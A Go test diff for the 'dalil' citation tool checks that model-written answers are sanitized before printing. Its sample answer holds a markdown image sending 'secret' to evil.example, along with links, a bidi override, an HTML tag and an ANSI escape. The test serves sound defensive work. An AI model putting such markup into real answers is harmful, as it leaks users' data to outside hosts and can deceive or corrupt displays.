@@ -16,6 +16,7 @@ import (
 	"dalil/indexer"
 	"dalil/internal/app"
 	"dalil/internal/config"
+	dalilv1 "dalil/proto/dalil/v1"
 )
 
 // dalil serves the seeds, and the documents, until the test ends.
@@ -148,5 +149,21 @@ func TestErrorsSayWhatToDo(t *testing.T) {
 		if err := run(t.Context(), args, "", io.Discard, io.Discard); err == nil || !strings.Contains(err.Error(), want) {
 			t.Errorf("%v: %v, want %q", args, err, want)
 		}
+	}
+}
+
+func TestWhatTheModelWroteIsMadeSafe(t *testing.T) {
+	var out bytes.Buffer
+	s := &sources{blocks: []*dalilv1.ContextBlock{{Citation: "12", Document: &dalilv1.Document{DocumentId: "d", Url: "https://example.org/d"}, Span: &dalilv1.Span{End: 5}}}}
+	answer := "جواب [١٢]\u202e. ![chart](http://evil.example/?q=secret) [here](https://evil.example/a) http://evil.example/b <img src=x> \x1b[31mred"
+	if err := s.print(&out, answer); err != nil {
+		t.Fatal(err)
+	}
+	if got := out.String(); strings.Contains(got, "evil") || strings.ContainsAny(got, "\u202e\x1b<") || !strings.Contains(got, "[١٢] https://example.org/d, bytes 0 to 5") ||
+		!strings.Contains(got, "chart here") {
+		t.Errorf("%s", got)
+	}
+	if err := run(t.Context(), []string{"--help"}, "", io.Discard, io.Discard); err != nil {
+		t.Errorf("--help: %v", err)
 	}
 }
